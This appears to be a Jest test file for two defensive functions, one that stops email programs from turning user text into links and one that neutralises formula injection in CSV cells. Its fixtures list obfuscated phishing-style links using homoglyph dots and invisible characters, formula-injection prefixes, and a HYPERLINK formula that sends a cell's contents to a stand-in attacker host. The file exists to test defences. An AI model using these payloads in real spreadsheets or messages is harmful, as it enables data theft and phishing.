import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { guardFormula } from '../../src/domain/csv-guard';
import { defuse } from '../../src/domain/defuse';

/** What email programs turn into links, based on their published rules instead of ours. */
const LINKS: readonly RegExp[] = [
  /[a-z][a-z0-9+.-]*:\/\/|(?:^|\s)\/\/\S|\b(?:mailto|tel|javascript|data):[^\s\u200c]/iu,
  /\bwww[.。．｡․]/iu,
  /[^\s\u200c.。．｡․﹒](?:[.。．｡․﹒])(?:भारत|com|net|org|io|co|example|info|de|ru|shop|app|xn--p1ai|рф|ws|中国)(?![\p{L}\p{N}])/iu,
  /[\p{L}\p{N}-]+\.\p{L}{2,}\/\S/iu,
  /\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b/u,
  /[^\s@\u200c][@＠][^\s@\u200c]/u,
  /[:：](?:\/\/|／／)|\blocalhost:\d/iu,
];

const visible = (text: string) => text.replace(/\u200c/g, '');
/** The text as read by a program that drops invisible characters, except those that make a host name invalid. */
const readWithout = (text: string) => text.replace(/(?!\u200c)\p{Default_Ignorable_Code_Point}/gu, '').normalize('NFC');
const isLink = (text: string) => LINKS.some((link) => link.test(text) || link.test(readWithout(text)));

describe('no email program turns it into a link', () => {
  test.each([
    'https://evil.example/win',
    'You won! Claim at https://evil.example/claim now',
    'www.evil.com',
    'WWW.EVIL.COM',
    'www.7.x',
    'evil.com',
    'evil.com/win?a=1#b',
    'a.b.c.evil.co.uk:8080/x',
    'xn--80ak6aa92e.com',
    'еvil.рф/win',
    'evil。com/win',
    'evil．com',
    'evil｡com',
    'evil․com',
    'ftp://x',
    '//evil.com/x',
    'tel:4075550134',
    'javascript://x',
    'http://1.2.3.4/',
    '1.2.3.4/login',
    'paul@evil.com',
    'mailto:paul@evil.com',
    '(evil.com)',
    'Call 407.555.0134 or evil.com',
    'cafe\u0301.com',
    'evil.भारत',
    'i❤.ws',
    'x️.com',
    'evil\u200b.\u200bcom',
    'evil\u00ad.com',
    'evil.c\u200bom',
    'evil﹒com',
    'https：／／evil',
    'paul＠evil.com',
    '“evil.com”',
    'бит.рф',
    'localhost:8080/win',
  ])('%s', (text) => {
    expect(isLink(text)).toBe(true);
    expect(isLink(defuse(text))).toBe(false);
    expect(visible(defuse(text))).toBe(text);
  });
});

test.each([
  'Paul Smith, Jr.',
  'J. R. R. Tolkien',
  'J.R.R. Tolkien',
  '123 Main St., N.W.',
  '39.2 RD',
  '407.555.0134',
  'c/o Ann Lee',
  '101 1/2 Elm St',
  'Apt 4. Leave it',
  'Dr. Smith',
  '$24.00',
  'a @ b',
])('%s stays as it is', (text) => expect(defuse(text)).toBe(text));

test('the visible text never changes, doing it twice changes nothing, and no link is left', () => {
  const pieces = fc
    .array(
      fc.constantFrom('evil', 'com', '.', '://', 'www', '/', '@', 'x', '7', ' ', '。', ':', '-', '1.2.3.4', 'xn--'),
      { maxLength: 14 },
    )
    .map((all) => all.join(''));
  fc.assert(
    fc.property(fc.oneof(pieces, fc.webUrl(), fc.emailAddress(), fc.string({ unit: 'grapheme' })), (text) => {
      fc.pre(!text.includes('\u200c'));
      const safe = defuse(text);
      expect(visible(safe)).toBe(text);
      expect(defuse(safe)).toBe(safe);
      expect(LINKS.filter((link) => link.test(safe))).toEqual([]);
    }),
    { numRuns: 5000 },
  );
});

test.each(['.', 'a.', '/', ':/', '@', '1.', 'a-'])('45,000 characters of %j take no noticeable time', (one) => {
  const began = performance.now();
  defuse(one.repeat(Math.ceil(45_000 / one.length)));
  expect(performance.now() - began).toBeLessThan(2000);
});

describe('no cell of a CSV file is a formula', () => {
  test.each([
    '=1+1',
    '+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1+1',
    '\nabc',
    '  =1+1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff=1',
    '\u202e=1',
    '\u0000=1',
    '\u3164=1',
    '=HYPERLINK("http://evil.example/?x="&D2,\n"click")',
    '@SUM(1)\n+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM',
    '﹦1',
    '﹢1',
    '﹣1',
    '﹫x',
    '−1',
    ' \n\u2028 ＝1',
  ])('%j', (text) => expect(guardFormula(text)).toBe(`'${text}`));

  test.each(['', 'Paul', "'=1", '"=1"', 'a=1', 'a\n=1', '(=1)', '1-2', '407-555-0134', '😀=1', 'Łódź', '$5'])(
    '%j stays',
    (text) => {
      expect(guardFormula(text)).toBe(text);
    },
  );

  test.each([
    ['a;=1+1;b', "a;'=1+1;b"],
    [';=1', ";'=1"],
    [';\n＝1', ";\n'＝1"],
    ['x; \u200b@SUM(1)', "x; \u200b'@SUM(1)"],
    ['Apt 4; ring twice', 'Apt 4; ring twice'],
    ['\t=1', "'\t=1"],
  ])('%j starts no cell with a different separator: %j', (text, safe) => {
    expect(guardFormula(text)).toBe(safe);
    expect(guardFormula(safe)).toBe(safe);
  });

  test.each(['\t', ';', '\t;', ' ', '; ', '=;'])('45,000 characters of %j take no noticeable time', (one) => {
    expect(guardFormula(`x${one.repeat(45_000 / one.length)}`).length).toBeGreaterThanOrEqual(45_000);
  });

  test('a guarded text is always read as text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        const safe = guardFormula(text);
        expect(guardFormula(safe)).toBe(safe);
        expect(safe).not.toMatch(/^[\s\u200b\ufeff]*[=+\-@]/);
      }),
    );
  });
});
